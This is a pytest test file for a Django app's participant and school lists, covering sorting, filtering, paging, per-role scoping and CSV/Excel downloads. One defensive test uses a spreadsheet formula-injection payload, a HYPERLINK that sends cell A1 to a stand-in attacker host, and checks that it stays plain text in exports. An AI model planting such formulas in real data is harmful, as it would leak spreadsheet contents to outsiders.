"""Every list sorts by a column, filters, pages and downloads as CSV and Excel; a download holds the rows the
reader may see, every page of them, and text typed into Kakehashi stays text in the file."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest
from django.test import Client

from kakehashi.web.accounts import lists
from kakehashi.web.accounts.scope import visible_participants
from kakehashi.web.testing import signed_in

pytestmark = pytest.mark.django_db


def workbook_rows(response: Any) -> list[list[Any]]:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_text(response: Any) -> str:
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode("utf-8-sig")


def in_order(text: str, *words: str) -> bool:
    places = [text.index(word) for word in words]
    return places == sorted(places)


def test_the_participants_list_sorts_by_name_both_ways(world: Any) -> None:
    north, _, _ = world
    first, second = north.alts
    first.name, second.name = "Alice Able", "Zoe Zeal"
    first.save()
    second.save()
    page = signed_in(north.users["coordinator"])
    assert in_order(page.get("/people/?sort=name").content.decode(), "Alice Able", "Zoe Zeal")
    descending = page.get("/people/?sort=-name").content.decode()
    assert in_order(descending, "Zoe Zeal", "Alice Able") and 'aria-sort="descending"' in descending


def test_the_participants_list_filters_by_search(world: Any) -> None:
    north, _, _ = world
    first, second = north.alts
    text = signed_in(north.users["coordinator"]).get(f"/people/?q={first.code}").content.decode()
    assert f">{first.code}<" in text and f">{second.code}<" not in text


def test_the_participants_list_has_a_second_page(world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    north, _, _ = world
    monkeypatch.setattr(lists, "PAGE_SIZE", 1)
    page = signed_in(north.users["coordinator"])
    one, two = page.get("/people/?sort=code").content.decode(), page.get("/people/?sort=code&page=2").content.decode()
    assert f">{north.alts[0].code}<" in one and f">{north.alts[1].code}<" not in one
    assert f">{north.alts[1].code}<" in two and "page 2 of 2" in two
    assert "sort=code&amp;page=1" in two  # the way back keeps the order


def test_the_participants_download_holds_every_page_in_the_chosen_order(
    world: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    north, south, _ = world
    monkeypatch.setattr(lists, "PAGE_SIZE", 1)
    page = signed_in(north.users["coordinator"])
    rows = workbook_rows(page.get("/people/?sort=-code&export=xlsx&page=2"))
    assert rows[0][:4] == ["id", "name", "name (katakana)", "position"]
    assert [row[0] for row in rows[1:]] == [north.alts[1].code, north.alts[0].code]
    assert rows[1][1] == north.alts[1].name and rows[1][3] == "ALT" and rows[1][4] == north.program.name
    text = csv_text(page.get("/people/?export=csv"))
    assert text.splitlines()[0] == "id,name,name (katakana),position,program,classes a week"
    assert north.alts[0].code in text and south.alts[0].code not in text


def test_a_download_keeps_the_filter(world: Any) -> None:
    north, _, _ = world
    text = csv_text(signed_in(north.users["coordinator"]).get(f"/people/?q={north.alts[0].code}&export=csv"))
    assert north.alts[0].code in text and north.alts[1].code not in text


def test_column_headers_and_the_download_speak_the_readers_language(world: Any) -> None:
    north, _, _ = world
    page = signed_in(north.users["coordinator"])
    page.cookies["django_language"] = "ja"
    assert "週の授業数" in page.get("/people/").content.decode()
    rows = workbook_rows(page.get("/people/?export=xlsx"))
    assert rows[0] == ["ID", "名称", "氏名（カタカナ）", "職種", "プログラム", "週の授業数"]


def test_a_jte_downloads_only_their_own_school(world: Any) -> None:
    north, _, _ = world
    jte = signed_in(north.users["school_staff"])
    rows = workbook_rows(jte.get("/schools/?export=xlsx"))
    assert [row[0] for row in rows[1:]] == [north.schools[0].code]


def test_a_board_supervisor_downloads_only_the_boards_schools(world: Any) -> None:
    north, south, _ = world
    text = csv_text(signed_in(north.users["supervisor"]).get("/schools/?export=csv"))
    assert all(s.code in text for s in north.schools) and not any(s.code in text for s in south.schools)


def test_the_schools_list_sorts_filters_and_pages(world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    north, _, _ = world
    page = signed_in(north.users["coordinator"])
    codes = [s.code for s in north.schools]
    assert in_order(page.get("/schools/?sort=-code").content.decode(), *[f">{c}<" for c in reversed(codes)])
    level = north.schools[0].level
    filtered = csv_text(page.get(f"/schools/?level={level}&export=csv"))
    assert all((s.code in filtered) == (s.level == level) for s in north.schools)
    monkeypatch.setattr(lists, "PAGE_SIZE", 3)
    second = page.get("/schools/?sort=code&page=2").content.decode()
    assert f">{codes[3]}<" in second and f">{codes[0]}<" not in second


def test_the_schools_list_sorts_by_the_name_the_reader_sees(world: Any) -> None:
    north, _, _ = world
    # The two orders disagree: Aoba before Nishi in English, あさひ (Nishi's Japanese name) before 青葉 in Japanese;
    # the third school has no Japanese name and sorts by its English one among the Japanese names.
    aoba, nishi, plain = (school.organization for school in north.schools[:3])
    for organization, name, name_ja in ((aoba, "Aoba School", "青葉学校"), (nishi, "Nishi School", "あさひ学校")):
        organization.name, organization.name_ja = name, name_ja
        organization.save()
    plain.name, plain.name_ja = "Zelkova School", ""
    plain.save()
    page = signed_in(north.users["coordinator"])
    english = page.get("/schools/?sort=school", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert in_order(english, ">Aoba School<", ">Nishi School<", ">Zelkova School<")
    japanese = page.get("/schools/?sort=school", HTTP_ACCEPT_LANGUAGE="ja").content.decode()
    assert in_order(japanese, "Zelkova School", "あさひ学校", "青葉学校")  # Latin, then kana, then kanji
    backwards = page.get("/schools/?sort=-school", HTTP_ACCEPT_LANGUAGE="ja").content.decode()
    assert in_order(backwards, "青葉学校", "あさひ学校", "Zelkova School")


def test_a_name_that_looks_like_a_formula_stays_text_in_both_downloads(world: Any) -> None:
    north, _, _ = world
    alt = north.alts[0]
    alt.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    alt.save()
    page = signed_in(north.users["coordinator"])
    response = page.get(f"/people/?q={alt.code}&export=xlsx")
    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["B2"]
    assert cell.value == alt.name and cell.data_type == "s" and cell.quotePrefix
    assert "'=HYPERLINK" in csv_text(page.get(f"/people/?q={alt.code}&export=csv"))


def test_an_unknown_download_format_is_not_found(world: Any) -> None:
    north, _, _ = world
    assert signed_in(north.users["coordinator"]).get("/people/?export=pdf").status_code == 404


def test_the_htmx_filter_answers_the_table_alone(world: Any) -> None:
    north, _, _ = world
    client = Client()
    client.force_login(north.users["coordinator"])
    response = client.get(f"/people/?q={north.alts[0].code}", HTTP_HX_REQUEST="true")
    text = response.content.decode()
    assert "<table" in text and "<h1>" not in text and "export=csv" in text


@pytest.mark.parametrize("query", ["sort=nonsense", "sort=-", "page=abc", "page=999", "page=-1"])
def test_a_mistyped_sort_or_page_answers_a_list_not_an_error(world: Any, query: str) -> None:
    north, _, _ = world
    for path in ("/people/", "/schools/", "/leave/requests/", "/leave/absences/", "/duties/reports/"):
        response = signed_in(north.users["coordinator"]).get(f"{path}?{query}")
        assert response.status_code == 200, f"{path}?{query} answered {response.status_code}"


def test_a_jte_downloads_only_the_participants_they_may_see(world: Any) -> None:
    north, south, _ = world
    jte = north.users["school_staff"]
    rows = workbook_rows(signed_in(jte).get("/people/?export=xlsx"))
    assert sorted(row[0] for row in rows[1:]) == sorted(visible_participants(jte).values_list("code", flat=True))
    assert not {row[0] for row in rows[1:]} & {alt.code for alt in south.alts}
